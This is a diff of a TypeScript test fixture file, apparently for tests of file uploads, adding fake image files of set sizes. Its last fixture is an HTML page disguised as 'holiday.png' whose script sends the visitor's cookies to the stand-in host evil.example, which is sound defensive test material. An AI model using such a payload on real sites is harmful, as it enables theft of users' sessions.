@@ -1,6 +1,27 @@
-/** A picture of one pixel. All its bytes are ASCII, so that it can travel as text. */
+/** A file to pick. All its bytes are ASCII, so that it can travel as text. */
+export interface PickedFile {
+  readonly name: string
+  readonly mimeType: string
+  readonly bytes: string
+}
+
+/** A picture of one pixel. */
 export const picture = {
   name: 'evidence.gif',
   mimeType: 'image/gif',
   bytes: 'GIF89a\u0001\0\u0001\0\0\0\0,\0\0\0\0\u0001\0\u0001\0\0\u0002\u0002L\u0001\0;',
 } as const
+
+/** A picture of so many bytes: what follows the one pixel differs from part to part. */
+export function largePicture(name: string, bytes: number): PickedFile {
+  const line = (at: number) => `${name} ${at} `.padEnd(64, '.')
+  const rest = Array.from({ length: Math.ceil(bytes / 64) }, (_, at) => line(at)).join('')
+  return { name, mimeType: 'image/gif', bytes: `${picture.bytes}${rest}`.slice(0, bytes) }
+}
+
+/** A page with a script that calls itself a picture. */
+export const disguisedScript: PickedFile = {
+  name: 'holiday.png',
+  mimeType: 'image/png',
+  bytes: '<!doctype html><script>fetch("https://evil.example/?" + document.cookie)</script>',
+}
